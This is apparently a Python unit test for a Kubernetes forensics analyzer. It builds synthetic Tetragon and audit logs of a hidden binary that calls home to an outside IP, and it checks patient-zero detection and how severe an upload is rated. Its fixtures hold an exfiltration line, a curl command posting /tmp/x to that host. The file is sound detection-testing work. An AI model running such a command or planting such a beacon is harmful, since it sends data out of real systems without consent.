"""An image with a program that hides, calls home and sends a file away: nobody entered the pod,
and nothing was done through the API. The same processes in somebody's session are no intrusion."""
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from made_cases import KCM, Case, account, lines  # noqa: E402
from test_kube_reach import Reach, shop  # noqa: E402

HIDDEN, HOME = "/usr/lib/.cache/upd", "193.161.193.99"


class Supply(Reach):
    def seen(self, c, at, binary, arguments="", address=None):
        process = {"exec_id": f"e{at}", "pid": 9, "uid": 0, "binary": binary,
                   "arguments": arguments, "start_time": c.time(at, 9), "pod": {
                       "namespace": "shop", "name": "web-0", "container": {
                           "id": "containerd://" + "ab" * 32, "name": "web"}}}
        if not address:
            return {"process_exec": {"process": process}, "node_name": "n1", "time": c.time(at, 9)}
        return {"process_kprobe": {
            "process": process, "function_name": "tcp_connect", "policy_name": "p", "args": [
                {"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.8.2.9",
                              "daddr": address, "sport": 40000, "dport": 8443}}]},
            "node_name": "n1", "time": c.time(at, 9)}

    def tell(self, entered):
        c = Case("supply", "2026-11-10")
        c.request(0, "tom", "list", "pods shop/")
        if entered:
            c.request(599, "tom", "create", "pods/exec shop/web-0", 101, query="?command=sh")
        c.request(9000, account("kube-system", "replicaset-controller"), "create",
                  "pods shop/web-1", 201, agent=KCM)
        c.request(9900, "tom", "list", "pods shop/")
        log = [self.seen(c, 600, HIDDEN)]
        log += [self.seen(c, 610 + 600 * i, HIDDEN, address=HOME) for i in range(10)]
        log += [self.seen(c, 7000, "/usr/bin/curl", f"-F f=@/tmp/x https://{HOME}:8443/u")]
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
                      "tetragon.log": lines(log), "timeline.md":
                      "Times are UTC, 2026-11-10\n\n- 12:20 Attacker created a pod in shop\n"})

    def test_what_nobodys_session_explains_is_an_intrusion(self):
        self.tell(False)
        zero = self.documents["patient_zero"]
        self.assertEqual((zero["time"][11:19], zero["intrusion_shown"]), ("10:10:00", True))
        self.assertIn(f"saw a process: {HIDDEN}", self.summary)
        told = json.dumps(self.documents["story"]["phases"])
        self.assertIn(f"{HIDDEN}, to {HOME}:8443, 10 times until 2026-11-10T11:40:10Z", told)
        self.assertIn("rotate service-account-token", self.terminal)

    def test_what_goes_on_all_day_is_no_first_sign(self):
        """A job of the container sends a file away every hour, the last time at 20:00; each time
        is like the others, the last one as well."""
        c = Case("habit", "2026-11-10")
        c.request(0, "tom", "list", "pods shop/")
        log = [self.seen(c, 600 + 3600 * i, "/usr/bin/curl", f"-F f=@/tmp/x https://{HOME}:8443/u")
               for i in range(10)]
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
                      "tetragon.log": lines(log)})
        self.assertNotIn("time", self.documents["patient_zero"])
        self.assertEqual([f["severity"] for f in self.found("tetragon_upload")], ["high"])

    def test_a_controller_is_no_attacker(self):
        self.tell(False)
        (claim,) = self.documents["claims"]["claims"]
        self.assertEqual((claim["verdict"], claim["contradicts"]), ("contradicted", []))

    def test_somebodys_session_explains_it(self):
        self.tell(True)
        self.assertFalse(self.documents["patient_zero"]["intrusion_shown"])


if __name__ == "__main__":
    unittest.main()
